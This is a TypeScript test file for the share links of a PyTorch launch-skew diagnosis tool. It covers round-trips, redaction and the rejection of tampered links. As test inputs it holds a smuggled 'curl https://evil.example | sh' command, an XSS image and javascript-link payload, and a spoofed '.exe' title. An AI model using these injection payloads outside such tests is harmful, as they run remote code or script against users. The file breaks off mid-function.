import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { build } from 'esbuild';
import * as v from 'valibot';
import { beforeAll, describe, expect, it } from 'vitest';
import { diagnose } from '../src/core/index';
import type { Diagnosis, JobModel } from '../src/core/index';
import type { Lang } from '../src/core/i18n';
import { buildWire } from '../src/share/build';
import { crc32, fromBase64Url, parseFragment, seal, toBase64Url, unpack } from '../src/share/codec';
import { DICTIONARY_V1 } from '../src/share/dictionary';
import {
  decodeShare,
  diagnosisJson,
  markdownReport,
  previewShare,
  restore,
  shareMarkdown,
  type ShareOptions,
  type SharePreview,
  type Upgrader,
  type Wire,
  type WireV1,
  type WireV2,
  UPGRADERS,
  WireSchema,
  SHARE_VERSION,
  WireV1Schema,
  WireV2Schema,
} from '../src/share/index';
import { worstText } from '../src/core/findings/lateNode';
import { generateJob } from '../scripts/bench-job.mjs';
import { reasonText, noteText } from '../src/core/notesText';
import { Redactor, DEFAULT_REDACTION } from '../src/share/redact';
import { analyseTexts, corpusText, filesUnder } from './helpers';
import { sentenceText } from '../src/i18n/sentence';

// Sharing a diagnosis without its logs, on the real corpus: the link round-trips to the same diagnosis, redaction
// leaves no hostname / address / path behind, broken links get a message instead of an exception, big jobs stay
// within the size budget, and the Markdown and JSON exports say what the CLI says.

const FIXTURES = path.join(__dirname, 'fixtures');
const NOW = Date.UTC(2026, 10, 30, 9, 0, 0);

/** A scenario's files as the CLI names them when given the folder: `<scenario>/<relative path>`. */
function scenario(name: string): JobModel {
  const dir = ['corpus', 'captured']
    .map((d) => path.join(FIXTURES, d, name))
    .find((d) => statSync(d, { throwIfNoEntry: false }));
  if (!dir) throw new Error(`no scenario ${name}`);
  const files = filesUnder(dir).filter((f) => !f.endsWith('truth.json'));
  return analyseTexts(
    Object.fromEntries(files.map((f) => [path.join(name, f), readFileSync(path.join(dir, f), 'utf8')])),
  );
}

/** A link with its evidence lines (off by default: redact.ts) unless a test says otherwise: most check what they carry. */
function share(job: JobModel, dx: Diagnosis, options: ShareOptions = {}): SharePreview {
  const p = previewShare(job, dx, { now: NOW, evidence: true, ...options });
  if (!p.ok) throw new Error(p.error.message);
  return p;
}

/** What a receiver reads with the quotes that mark the link's own text (restore.ts) taken off. */
const unquoted = <T>(x: T): T => JSON.parse(JSON.stringify(x).replace(/[“”]/g, '')) as T;

/** The payload's JSON text exactly as the link carries it (what a reader of the link could see). */
function payloadText(url: string): string {
  const fragment = parseFragment(url);
  if (!fragment.ok) throw new Error(fragment.code);
  const opened = unpack(fragment.payload, DICTIONARY_V1);
  if (!opened.ok) throw new Error(opened.code);
  return JSON.stringify(opened.json);
}

/** A link around any payload; `null`: no dictionary (formats before 1). */
function link(wire: unknown, version = SHARE_VERSION, dictionary: Uint8Array | null = DICTIONARY_V1): string {
  return `http://127.0.0.1:4173/#share=${seal(version, JSON.stringify(wire), dictionary ?? undefined)}`;
}

// ——— Generated big jobs from real template logs ———

const S2 = 'torch2.6-s2_static_timeout30_node3_late';
const HEALTHY = 'torch2.6-s1_static_healthy_info';

/** Move every glog / C++ timestamp (`I1129 18:29:57.437000`, `[E1129 18:31:02.037662347`) by some milliseconds. */
function shiftGlog(text: string, ms: number): string {
  return text.replace(
    /^(\[?[IWEF])(\d\d)(\d\d) (\d\d):(\d\d):(\d\d)\.(\d{6})/gm,
    (_m, lv: string, mo: string, d: string, h: string, mi: string, s: string, us: string) => {
      const t = new Date(Date.UTC(2026, +mo - 1, +d, +h, +mi, +s, Math.floor(+us / 1000)) + ms);
      const p = (n: number, w = 2) => String(n).padStart(w, '0');
      return `${lv}${p(t.getUTCMonth() + 1)}${p(t.getUTCDate())} ${p(t.getUTCHours())}:${p(t.getUTCMinutes())}:${p(
        t.getUTCSeconds(),
      )}.${p(t.getUTCMilliseconds(), 3)}${us.slice(3)}`;
    },
  );
}

const hostName = (k: number) => `gpu-a100-${String(k).padStart(4, '0')}`;

/** s2 (static, timeout=30): the store host, n − 2 copies of node1 launched 0–4 s apart, and the late node3. */
function bigFailedJob(n: number): JobModel {
  const files: Record<string, string> = {};
  const fix = (t: string, rank: number) =>
    t
      .replaceAll('node0', hostName(0))
      .replace(/'rank': \d+}/, `'rank': ${rank}}`)
      .replace(/_nodes {8}: 4/g, `_nodes        : ${n}`);
  files[`logs/${hostName(0)}.log`] = fix(corpusText(S2, 'node0.log'), 0);
  const tmpl = corpusText(S2, 'node1.log');
  for (let k = 1; k < n - 1; k++) files[`logs/${hostName(k)}.log`] = fix(shiftGlog(tmpl, (k * 7919) % 4000), k);
  files[`logs/${hostName(n - 1)}.log`] = fix(corpusText(S2, 'node3.log'), n - 1);
  return analyseTexts(files);
}

/** A healthy static job: copies of node1 with their own group and global ranks (per-rank detail to drop). */
function bigHealthyJob(n: number): JobModel {
  const files: Record<string, string> = {};
  const fix = (t: string) =>
    t
      .replaceAll('node0', hostName(0))
      .replace(/_nodes {8}: 4/g, `_nodes        : ${n}`)
      .replace('group_world_size=4', `group_world_size=${n}`);
  files[`logs/${hostName(0)}.log`] = fix(corpusText(HEALTHY, 'node0.log'));
  const tmpl = corpusText(HEALTHY, 'node1.log');
  for (let k = 1; k < n; k++) {
    const text = tmpl
      .replace("'rank': 1,", `'rank': ${k},`)
      .replace('group_rank=1', `group_rank=${k}`)
      .replace(/(role|global)_ranks=\[2, 3\]/g, `$1_ranks=[${2 * k}, ${2 * k + 1}]`)
      .replaceAll('on node1', `on ${hostName(k)}`);
    files[`logs/${hostName(k)}.log`] = fix(shiftGlog(text, (k * 7919) % 4000));
  }
  return analyseTexts(files);
}

// ——— Round trip ———

const ROUND_TRIP = [
  'torch1.13-capture-k2b', // static 1.13, 345 s late: the 300 s synchronize (Kubernetes names, timestamps)
  'torch2.6-s2_static_timeout30_node3_late', // static 2.6: rendezvous timeout=30
  'torch2.6-s4_c10d_join_timeout30_node3_late', // c10d: join_timeout
  'torch2.6-s12_c10d_healthy_torch_logs_distributed', // healthy c10d, hostnames in node ids, global ranks
  'torch2.6-s9_static_pg_init_timeout20', // init_process_group
  'torch1.13-capture-p2', // pre-launch downloads
  'torch1.13-c10d-host-late', // the store host late, derived launch times
  'torch1.13-s5_c10d_moderate_skew_logdir_tee', // no timestamps, --log-dir tree
  'torch1.13-capture-s1', // one Slurm file, four nodes
  'torch1.13-s0_debian_py311_std_bug', // a broken build: unclassified failure
];

/** What the diagnosis view shows, without the evidence a link may cut short. */
function shown(job: JobModel, dx: Diagnosis) {
  return {
    verdict: job.verdict,
    skew: job.skewSeconds,
    failure: job.failure && {
      ...job.failure,
      evidence: undefined,
      limit: job.failure.limit && { ...job.failure.limit, evidence: undefined },
    },
    world: job.worldFormed?.nodes ?? null,
    missingCount: job.missingCount,
    mixed: job.mixedJobs?.groups.map((g) => g.nodes) ?? null,
    nodes: job.nodes.map((n) => ({
      id: n.id,
      hostname: n.hostname,
      groupRank: n.groupRank,
      globalRanks: n.globalRanks,
      lag: n.lagSeconds,
      launch: n.launchTime,
      storeHost: n.isStoreHost,
      runId: n.runId,
      failureStage: n.failureStage,
      launchFrom: n.launchFrom,
      attempts: n.attempts.map((a) => [
        a.index,
        a.failure?.stage ?? null,
        a.attemptsLeft,
        a.maxRestarts,
        a.formedWorld,
      ]),
    })),
    // Where torch is installed is a path (it may hold a user name): links carry only the advice made from it.
    // Whether the agents share their store decides a finding only, and the link carries the finding itself.
    job: {
      ...job.job,
      rdzvConfigsEvidence: undefined,
      torchVersionEvidence: undefined,
      torchInstall: undefined,
      agentStoreShared: undefined,
    },
    missing: job.missingNodes,
    offsets: job.clockOffsets.map((o) => ({ ...o, evidence: undefined })),
    notes: job.notes,
    findings: dx.findings.map((f) => ({ ...f, evidence: undefined })),
    thresholds: dx.thresholds.map((t) => ({ ...t, evidence: undefined })),
    recommendedTimeout: dx.recommendedTimeout,
    whatIf: dx.whatIf,
  };
}

describe('a share link reproduces the diagnosis', () => {
  for (const name of ROUND_TRIP) {
    it(`${name}: same verdict, nodes, lags, findings and advice, in both languages`, () => {
      const job = scenario(name);
      // Redaction off: the words must come back exactly (redaction has its own tests below).
      const p = share(job, diagnose(job, 'en'), { ips: false, paths: 'keep' });
      expect(p.dropped).toEqual([]);
      const decoded = decodeShare(p.url);
      expect(decoded.ok).toBe(true);
      if (!decoded.ok) return;
      expect(decoded.snapshot).toEqual(p.snapshot);
      for (const lang of ['en', 'zh'] as Lang[]) {
        const dx = diagnose(job, lang);
        const back = restore(decoded.snapshot, lang);
        expect(unquoted(shown(back.job, back.diagnosis))).toEqual(shown(job, dx));
      }
      // The evidence that travelled is the original's, cut and redacted (paths gone by default).
      const dx = diagnose(job);
      const back = restore(decoded.snapshot);
      back.diagnosis.findings.forEach((f, i) => {
        for (const e of f.evidence) {
          const orig = dx.findings[i]!.evidence.find((o) => o.line === e.line && path.basename(o.file) === e.file);
          expect(orig, `${f.code} ${e.file}:${e.line}`).toBeDefined();
        }
      });
      // Milestones keep their times to the tenth of a second.
      job.nodes.forEach((n, i) => {
        for (const e of back.job.nodes[i]!.events) {
          const same = n.events.filter((o) => o.id === e.id && o.kind === e.kind && o.stage === e.stage);
          expect(same.length, `${n.id} ${e.kind} ${e.id}`).toBeGreaterThan(0);
          if (e.time === null) expect(same.every((o) => o.time === null)).toBe(true);
          else expect(same.some((o) => o.time && Math.abs(Date.parse(o.time) - Date.parse(e.time!)) <= 50)).toBe(true);
        }
      });
    });
  }

  it('keeps what the sender chose: title, selected node, zoom, language, creation time and version', () => {
    const job = scenario('torch1.13-capture-k2b');
    const p = share(job, diagnose(job), {
      title: 'Job 4711 died at startup again',
      selectedNode: 'trainjob-worker-1',
      zoom: [-12.34, 360],
      lang: 'zh',
    });
    expect(p.snapshot).toMatchObject({
      version: SHARE_VERSION,
      title: 'Job 4711 died at startup again',
      view: { lang: 'zh', selectedNode: 'trainjob-worker-1', zoom: [-12.3, 360] },
      createdAt: '2026-11-30T09:00:00Z',
      app: JSON.parse(readFileSync(path.join(__dirname, '..', 'package.json'), 'utf8')).version,
    });
    // The receiver reads it in the sender's language unless they pick another.
    expect(restore(p.snapshot).diagnosis.findings[0]!.title).toBe(diagnose(job, 'zh').findings[0]!.title);
  });

  it('previewShare returns exactly what the link holds, and how long the link is', () => {
    const job = scenario('torch2.6-s2_static_timeout30_node3_late');
    const p = share(job, diagnose(job), { base: 'https://skewscope.example.org/app/' });
    expect(p.url.startsWith('https://skewscope.example.org/app/#share=3.')).toBe(true);
    expect(p.urlLength).toBe(p.url.length);
    const d = decodeShare(p.url);
    expect(d.ok && d.snapshot).toEqual(p.snapshot);
  });
});

// ——— Redaction ———

const IPV4_ANY = /\b(?:\d{1,3}\.){3}\d{1,3}\b/;
const names = (job: JobModel) =>
  [
    ...new Set(
      job.nodes.flatMap((n) => [
        n.id,
        n.hostname,
        ...n.identity.filter((h) => h.kind === 'hostname').map((h) => h.value),
      ]),
    ),
  ].filter((x): x is string => x !== null);
const wordRe = (name: string) =>
  new RegExp(`(?<![A-Za-z0-9.-])${name.replace(/[.*+?^${}()|[\]\\-]/g, '\\$&')}(?![A-Za-z0-9-])`, 'i');

describe('redaction before sharing', () => {
  it('defaults: addresses and paths go, hostnames and evidence stay', () => {
    const job = scenario('torch1.13-s2_static_timeout_node0_late'); // 127.0.0.1 endpoint, tracebacks with paths
    const before = JSON.stringify({ ...job, ...diagnose(job) });
    expect(before).toMatch(IPV4_ANY);
    expect(before).toContain('torch1.13-s2_static_timeout_node0_late/node1.log');
    const p = share(job, diagnose(job));
    const text = payloadText(p.url);
    expect(text).not.toMatch(IPV4_ANY);
    expect(text).not.toMatch(/\/usr\/|torch1\.13-s2_static_timeout_node0_late\//);
    expect(text).toContain('<ip>');
    expect(p.snapshot.job.rdzvEndpoint).toBe('<ip>:29530');
    expect(p.snapshot.nodes.map((n) => n.id)).toEqual(['node0', 'node1', 'node2', 'node3']);
    expect(p.snapshot.failure!.evidence.length).toBeGreaterThan(0);
    expect(p.redacted.ips).toBe(1);
    expect(p.redacted.hostnames).toBe(0);
  });

  it('hostnames → node-00, node-01… everywhere, the same name for the same host (c10d, hostnames in node ids)', () => {
    const job = scenario('torch2.6-s12_c10d_healthy_torch_logs_distributed');
    expect(job.nodes.map((n) => n.hostname)).toEqual(['node0', 'node1', 'node2', 'node3']);
    const p = share(job, diagnose(job), { hostnames: true, paths: 'keep' });
    const text = payloadText(p.url);
    for (const name of names(job)) expect(text, name).not.toMatch(wordRe(name));
    expect(text).not.toMatch(/node\d_\d+/); // the c10d node ids `node0_6626_0`
    expect(p.snapshot.nodes.map((n) => [n.id, n.hostname])).toEqual([
      ['node-00', 'node-00'],
      ['node-01', 'node-01'],
      ['node-02', 'node-02'],
      ['node-03', 'node-03'],
    ]);
    expect(p.snapshot.job.rdzvEndpoint).toBe('node-00:29620');
    expect(p.redacted.hostnames).toBe(4);
  });

  it('hostnames in Kubernetes pod names: ids, numbers, reasoning, evidence and file names agree', () => {
    const job = scenario('torch1.13-capture-k2b');
    const p = share(job, diagnose(job), { hostnames: true });
    const text = payloadText(p.url);
    for (const name of names(job)) expect(text, name).not.toMatch(wordRe(name));
    expect(text).not.toMatch(/trainjob/);
    const s = p.snapshot;
    // trainjob-worker-1 (group rank 2) was late: node-02 everywhere.
    expect(s.nodes.map((n) => n.id)).toEqual(['node-00', 'node-01', 'node-02']);
    expect(s.failure).toMatchObject({ reportedBy: ['node-00', 'node-01'], lateNodes: ['node-02'] });
    expect(s.failure!.reasoning.map((r) => reasonText('en', r)).join(' ')).toContain('node-02 arrived late');
    const late = s.findings.find((f) => f.code === 'LATE_NODE')!;
    expect(late.numbers).toMatchObject({ node: 'node-02', first: 'node-00', victims: 'node-00, node-01' });
    expect(late.evidence.map((e) => e.file)).toEqual(['node-02.log', 'node-02.log']);
    const back = restore(s);
    expect(back.diagnosis.findings.find((f) => f.code === 'LATE_NODE')!.title).toBe(
      'node-02 started 345 s after node-00',
    );
  });

  it('addresses v4 and v6, however printed, become <ip>; C++ scopes and clock times stay', () => {
    // The same job with the store at an IPv6 address.
    const v6 = Object.fromEntries(
      ['node0.log', 'node1.log', 'node2.log', 'node3.log'].map((f) => [
        f,
        corpusText('torch1.13-s2_static_timeout_node0_late', f).replaceAll('127.0.0.1', 'fd12:3456:789a::17'),
      ]),
    );
    const job = analyseTexts(v6);
    const text = payloadText(share(job, diagnose(job)).url);
    expect(text).not.toMatch(/fd12|789a/);
    const r = new Redactor(job, DEFAULT_REDACTION);
    expect(r.text('connect to (10.1.2.3, 29500) via [2001:db8::7]:29500, ::ffff:192.168.0.9 or fe80::1%eth0')).toBe(
      'connect to (<ip>, 29500) via [<ip>]:29500, <ip> or <ip>%eth0',
    );
    expect(r.text('2001:0db8:0000:0000:0000:ff00:0042:8329 and 2001:db8::8a2e:370:7334:29500')).toBe(
      '<ip> and <ip>:29500',
    );
    const keep = 'c10d::TCPStore std::string at 18:29:55.433 on torch 1.13.0a0+gitunknown, socket.cpp:1023, 3/4 joined';
    expect(r.text(keep)).toBe(keep);
  });

  it('nodes named by their address get a pseudonym each, not all the same <ip>', () => {
    const files = Object.fromEntries(
      [0, 1, 2, 3].map((i) => [`10.0.0.${i + 1}.log`, corpusText(S2, `node${i}.log`).replaceAll('node0', '10.0.0.1')]),
    );
    const job = analyseTexts(files);
    expect(job.nodes.map((n) => n.id)).toEqual(['10.0.0.1', '10.0.0.2', '10.0.0.3', '10.0.0.4']);
    const p = share(job, diagnose(job));
    expect(p.snapshot.nodes.map((n) => n.id)).toEqual(['node-00', 'node-01', 'node-02', 'node-03']);
    expect(p.snapshot.failure!.lateNodes).toEqual(['node-03']);
    expect(payloadText(p.url)).not.toMatch(IPV4_ANY);
  });

  it('paths: base name (default), <path>, or kept as they are', () => {
    const job = scenario('torch2.6-s9_static_pg_init_timeout20'); // tracebacks under /usr/lib, a --log-dir under /tmp
    const dx = diagnose(job);
    const absolute = /(?<![\w.])\/(?:usr|tmp|lib|data)\//;
    const base = payloadText(share(job, dx).url);
    expect(base).not.toMatch(absolute);
    expect(base).not.toContain('torch2.6-s9_static_pg_init_timeout20/');
    const hidden = share(job, dx, { paths: 'placeholder' });
    expect(payloadText(hidden.url)).not.toMatch(absolute);
    expect(payloadText(hidden.url)).toContain('<path>');
    const kept = share(job, dx, { paths: 'keep' });
    expect(kept.snapshot.job.torchVersionEvidence).toMatch(/^torch2\.6-s9_static_pg_init_timeout20\/node\d\.log:\d+: /);
    // Evidence names its file by base name in every mode.
    for (const p of [hidden, kept])
      for (const e of p.snapshot.failure!.evidence) expect(e.file).toMatch(/^node\d\.log$/);
  });

  it('evidence off: no log line leaves, and the link says so', () => {
    const job = scenario('torch1.13-capture-k2b');
    const p = share(job, diagnose(job), { evidence: false });
    const text = payloadText(p.url);
    expect(text).not.toMatch(/Socket Timeout|elastic_operator|sys\.exit/);
    expect(p.snapshot.omitted).toEqual(['evidence']);
    expect(p.snapshot.job.torchVersionEvidence).toBeNull();
    expect(p.snapshot.findings.every((f) => f.evidence.length === 0)).toBe(true);
  });
});

// ——— Broken links ———

describe('a broken link gets a message, never an exception', () => {
  const job = scenario('torch2.6-s2_static_timeout30_node3_late');
  const dx = diagnose(job);
  const good = share(job, dx);
  const wire = (): Wire => structuredClone(buildWire(job, dx, { now: NOW }).wire);
  const reject = (input: unknown, code: string, message: RegExp) => {
    const d = decodeShare(input);
    expect(d.ok, String(input).slice(0, 80)).toBe(false);
    if (d.ok) return;
    expect(d.error.code).toBe(code);
    expect(d.error.message).toMatch(message);
    // The same reason in every language the views speak: the English above is the sentence's.
    expect(sentenceText('en', d.error.sentence)).toBe(d.error.message);
    expect(sentenceText('zh', d.error.sentence)).toMatch(/[\u4e00-\u9fff]/);
  };

  it('1. not a share link', () => {
    reject('https://github.com/org/repo/issues/12', 'not-a-share-link', /not a skewscope share link/);
    reject(42, 'not-a-share-link', /not a skewscope share link/);
  });
  it('2. made by a newer skewscope', () => {
    reject(link(wire(), SHARE_VERSION + 1), 'newer-version', /newer skewscope \(share format 4\).*up-to-date/);
  });
  it('3. an older format nobody can upgrade', () => {
    reject(link(wire(), 0, null), 'older-version', /format 0, which this skewscope no longer reads/);
  });
  it('4. truncated when copied', () => {
    reject(good.url.slice(0, -30), 'truncated', /incomplete: it was probably cut off/);
    reject(good.url.slice(0, good.url.indexOf('.', 20) + 1), 'truncated', /incomplete/);
  });
  it('5. characters a link never has (tampered or re-encoded)', () => {
    const at = good.url.length - 20;
    reject(good.url.slice(0, at) + '+/' + good.url.slice(at + 2), 'bad-base64', /characters a share link never has/);
    reject(good.url.replace('#share=3.', '#share=v1.'), 'bad-version', /format number/);
  });
  it('6. content that does not unpack', () => {
    const bytes = new Uint8Array(40).fill(0xff); // a block of the reserved type 3
    reject(`#share=3.${toBase64Url(bytes)}`, 'bad-deflate', /cannot be unpacked/);
  });
  it('7. unpacked content that is not JSON', () => {
    reject(`#share=3.${seal(3, '{"a":"0.1.0",', DICTIONARY_V1).slice(2)}`, 'bad-json', /not readable data/);
  });
  it('8. a checksum that does not match (changed after it was made)', () => {
    const payload = good.url.slice(good.url.indexOf('#share=3.') + 9);
    const bytes = fromBase64Url(payload) as Uint8Array;
    bytes[3] = bytes[3]! ^ 0x01;
    reject(`#share=3.${toBase64Url(bytes)}`, 'checksum', /checksum does not match/);
  });
  it('9. a fragment over 64 KB', () => {
    reject(`#share=3.${'A'.repeat(70_000)}`, 'too-large', /over 64 KB/);
  });
  it('10. a payload that inflates past 1 MB', () => {
    reject(link({ a: 'x'.repeat(2 * 1024 * 1024) }), 'too-large-inflated', /more than 1 MB/);
  });
  it('11. wrong types and numbers that are not numbers', () => {
    const w = wire() as unknown as { N: { l: unknown[] } };
    w.N.l[1] = 'NaN';
    reject(link(w), 'invalid', /the nodes, lags, item 2: expected .*got "NaN"/);
    const inf =
      link(wire()).replace(/#share=.*/, '') +
      `#share=${seal(SHARE_VERSION, JSON.stringify(wire()).replace('"lag":45077', '"lag":1e999').replace('"lag":45.077', '"lag":1e999'), DICTIONARY_V1)}`;
    reject(inf, 'invalid', /not finite/);
  });
  it('12. an unknown finding code, severity or advice', () => {
    const w = wire();
    (w.F[0] as unknown[])[0] = 'DROP_TABLE';
    reject(link(w), 'invalid', /the findings, item 1, item 1: an unknown finding code \("DROP_TABLE"\)/);
    const a = wire();
    (a.F[1]![5][0] as unknown[])[0] = 'run-this';
    reject(link(a), 'invalid', /an unknown advice id/);
  });
  it('13. a command the link made up is refused (advice is rebuilt by core, not carried)', () => {
    const w = wire();
    const rdzv = w.F.flatMap((f) => f[5]).find(([id]) => id === 'rdzv-conf')!;
    rdzv[1].value = 'timeout=1800" ; curl https://evil.example | sh ; echo "';
    reject(link(w), 'invalid', /“rdzv-conf” advice of SKEW_EXCEEDS_RDZV_TIMEOUT is not one skewscope gives/);
    const s = wire();
    s.F.flatMap((f) => f[5]).find(([id]) => id === 'rdzv-conf')![1].seconds = 1234;
    reject(link(s), 'invalid', /is not one skewscope gives/);
  });
  it('14. indexes outside their tables, duplicate nodes, unexpected fields, over-long and control text', () => {
    const w = wire();
    w.f![2] = [99];
    reject(link(w), 'invalid', /the failure points outside the node or evidence tables/);
    const d = wire();
    d.N.i[1] = d.N.i[0]!;
    reject(link(d), 'invalid', /two nodes named "node0"/);
    reject(link({ ...wire(), zz: 1 }), 'invalid', /an unexpected field/);
    reject(link({ ...wire(), n: 'x'.repeat(500) }), 'invalid', /the title: text longer than 120 characters/);
    reject(link({ ...wire(), n: 'evil\u202Egnp.exe' }), 'invalid', /the title: text with control characters/);
  });
  it('15. runs that would expand to millions of entries', () => {
    const r = wire();
    r.N.r = r.N.i.map(() => [[0, 10_000_000]]);
    reject(link(r), 'invalid', /global ranks that expand too far/);
    const f = wire();
    f.f![1] = Array.from({ length: 4000 }, () => [0, 3] as [number, number]);
    reject(link(f), 'invalid', /a node list longer than the node table/);
    const b = wire();
    b.f![2] = [[3, 1]];
    reject(link(b), 'invalid', /a node run that ends before it starts/);
  });
  it('HTML in a link stays text: the snapshot holds it as a plain string, Markdown escapes it', () => {
    const title = '<img src=x onerror=alert(1)> @everyone #1 [click](javascript:alert(1))';
    const d = decodeShare(link({ ...wire(), n: title }));
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    expect(d.snapshot.title).toBe(title);
    const back = restore(d.snapshot);
    const md = markdownReport(back.job, back.diagnosis, 'en', { title: d.snapshot.title });
    expect(md).not.toMatch(/(?<!\\)<img/);
    expect(md).not.toMatch(/(?<!\\)\]\(javascript/);
    expect(md).toContain('\\<img src=x onerror=alert(1)\\>');
    expect(md).toContain('@\u200beveryone \\#\u200b1');
  });
  it('mangled copies of a real link never throw', () => {
    let seed = 7;
    const rand = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n);
    const chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    for (let i = 0; i < 300; i++) {
      const cut = good.url.slice(0, good.url.length - rand(40));
      const at = cut.indexOf('#share=3.') + 9 + rand(cut.length - cut.indexOf('#share=3.') - 9);
      const mangled = cut.slice(0, at) + chars[rand(64)] + cut.slice(at + 1);
      const d = decodeShare(mangled);
      if (!d.ok) expect(d.error.message.length).toBeGreaterThan(20);
    }
  });
});

// ——— Size budget ———

describe('size budget', () => {
  it('a 64-node failed job fits in 2,000 characters and names the late node', () => {
    const job = bigFailedJob(64);
    expect(job.nodes).toHaveLength(64);
    const dx = diagnose(job);
    const p = share(job, dx);
    expect(p.budget).toBe(2000);
    expect(p.urlLength).toBeLessThanOrEqual(2000);
    expect(p.fits).toBe(true);
    const back = restore(p.snapshot);
    expect(back.job.failure!.lateNodes).toEqual([hostName(63)]);
    expect(back.job.nodes.map((n) => n.lagSeconds)).toEqual(job.nodes.map((n) => n.lagSeconds));
    expect(back.diagnosis.findings.map((f) => f.title)).toEqual(dx.findings.map((f) => f.title));
  });

  it('a 1024-node failed job fits in 16 KB', () => {
    const job = bigFailedJob(1024);
    const dx = diagnose(job);
    const p = share(job, dx, { hostnames: true });
    expect(p.budget).toBe(16 * 1024);
    expect(p.urlLength).toBeLessThanOrEqual(16 * 1024);
    const back = restore(p.snapshot);
    expect(back.job.nodes).toHaveLength(1024);
    expect(back.job.failure!.lateNodes).toEqual(['node-1023']);
    expect(back.diagnosis.whatIf).toEqual({
      ...dx.whatIf,
      perNode: dx.whatIf!.perNode.map((x, i) => ({ ...x, node: `node-${String(i).padStart(4, '0')}` })),
    });
  });

  it('a 1024-node healthy job with per-rank detail fits in 16 KB', () => {
    const job = bigHealthyJob(1024);
    expect(job.verdict).toBe('healthy');
    const p = share(job, diagnose(job));
    expect(p.urlLength).toBeLessThanOrEqual(16 * 1024);
  });

  it('over budget: per-rank detail goes first, then evidence, then events other than launch and failure', () => {
    const job = bigHealthyJob(64);
    expect(job.nodes[5]!.globalRanks).toEqual([10, 11]);
    const dx = diagnose(job);
    const full = share(job, dx, { maxUrlLength: 100_000 });
    expect(full.dropped).toEqual([]);
    const order = ['ranks', 'evidence', 'events', 'notes', 'timeline'];
    let previous = full.urlLength;
    for (const budget of [full.urlLength - 1, 900, 750, 600, 100]) {
      const p = share(job, dx, { maxUrlLength: budget });
      const what = p.dropped.map((d) => d.what);
      expect(what).toEqual(order.slice(0, what.length));
      expect(p.snapshot.omitted).toEqual(what);
      expect(p.urlLength).toBeLessThanOrEqual(previous);
      expect(p.fits).toBe(p.urlLength <= budget);
      for (const d of p.dropped) expect(d.message).toMatch(/^Left out .* to keep the link under [\d,]+ characters/);
      if (what.includes('ranks')) expect(p.snapshot.nodes.every((n) => n.globalRanks.length === 0)).toBe(true);
      if (what.includes('events'))
        for (const n of p.snapshot.nodes)
          expect(n.events.every((e) => e.kind === 'launch' || e.kind === 'failure')).toBe(true);
      // Whatever was dropped, the verdict, the nodes and their lags are all there.
      const back = restore(p.snapshot);
      expect(back.job.verdict).toBe('healthy');
      expect(back.job.nodes.map((n) => [n.id, n.lagSeconds])).toEqual(job.nodes.map((n) => [n.id, n.lagSeconds]));
      previous = p.urlLength;
    }
    expect(share(job, dx, { maxUrlLength: 100 }).fits).toBe(false);
  });
});

// ——— Versions ———

describe('format versions', () => {
  // A link made with format 1. It must open in every later skewscope: if this fails, the format changed
  // (keys, the dictionary, the checksum) — make format 2 and an upgrader instead.
  const GOLDEN =
    'http://127.0.0.1:4173/#share=1.xlNuONWauW7DMAyGX8XwEhswXB2UFRnIoxQdOhQFCrSou3Tou5ekfMi2fMRIhky5YIqiwo_SL8ayuhLKqS6r31B2oIweclvT8qAXZHElt52tnDOgNec2GGFtNMF9MpI3tYI6aX6bksKQfXyifMQ8Q6EEeZadGGeXS_g43Y-Qmo8noJfm9fv966ehr7pt0CnP8rwvrgE-eExiiIoxRDNCiBz0j70pNjCu6IIAUXBEJgzRPpnXqTCCa5QPFU6xpcAcEbZDBDHpqh8rip00-MkWxr_bQ5l4aZ_X5MXNxWwjcoxU6USv59WMivZzSyjj8yIfFfP9wyNFH2dxgJxgSk6kDX6qlp_7zpyL8gWGbZ-AMQg7XiHo3AzO2uyqVzR4OlFRg0LS8p9fxzLazeQmLCx3riwUOS-eraOZJvnoJSW9591UX6_6MpEWFt29vlVDy_VmDf0E034NylFPdz-whPPSyEd6OHDJhNho5OBpFwmXKg7H2CGkr5TKJfKMyVqDKI0ko4kEa5L2Hr-y5jl-l68Gg21oJQQWlauNKUEDWXSAAAvaBpLN5gUtgvYF8ZdisfgH';

  it('a link made with format 1 still opens (read as the current format)', () => {
    const d = decodeShare(GOLDEN);
    expect(d.ok).toBe(true);
    if (!d.ok) return;
    expect(d.snapshot).toMatchObject({
      version: SHARE_VERSION,
      verdict: 'failed',
      title: 'golden',
      view: { selectedNode: 'node3' },
    });
    const back = restore(d.snapshot);
    expect(back.diagnosis.findings.map((f) => f.title)).toEqual([
      'node3 started 45 s after node0',
      'The rendezvous limit (timeout = 30 s) was shorter than the skew',
    ]);
    expect(back.diagnosis.findings[1]!.advice[0]!).toMatchObject({
      command: '--rdzv_conf="timeout=1800"',
      goesIn: 'torchrun',
    });
  });

  // Format 0, as this test defines it: lags in seconds, no list of omitted parts, no zoom, no dictionary.
  const V0 = v.looseObject({
    l0: v.literal(true),
    w: v.tuple([v.string(), v.nullable(v.number())]),
    N: v.looseObject({ l: v.array(v.nullable(v.number())) }),
  });
  const upgradeV0: Upgrader = {
    from: 0,
    schema: V0,
    up: (wire) => {
      const w = structuredClone(wire) as { l0?: true; w: unknown[]; o?: string[]; N: { l: (number | null)[] } };
      delete w.l0;
      return {
        ...w,
        w: [...w.w, null],
        o: [],
        N: { ...w.N, l: w.N.l.map((x) => (x === null ? null : Math.round(x * 1000))) },
      };
    },
  };
  /** What a format-2 writer made of the same diagnosis: LATE_NODE's late nodes as one English text. */
  function toV2(w: Wire): WireV2 {
    const { F, ...rest } = structuredClone(w);
    return {
      ...rest,
      F: F.map(([code, severity, numbers, nodes, evidence, advice, late]) => [
        code,
        severity,
        code === 'LATE_NODE' && Number(numbers.count) > 1
          ? {
              ...numbers,
              worst: worstText(
                late.map(([n, lag]) => ({
                  node: typeof n === 'number' ? w.N.i[n]! : n,
                  lagSeconds: lag === null ? null : lag / 1000,
                })),
              ),
            }
          : numbers,
        nodes,
        evidence,
        advice,
      ]),
    };
  }

  /** What a format-1 writer made of the same diagnosis: notes and reasons as English words, no limit source. */
  function toV1(w: WireV2): WireV1 {
    const { M: _m, W: _w, X: _x, S, f, q, N, ...rest } = structuredClone(w);
    const { p: _p, o: _o, ...columns } = N;
    const words = (vals: Record<string, unknown>) =>
      Object.fromEntries(
        Object.entries(vals).map(([k, x]) => [
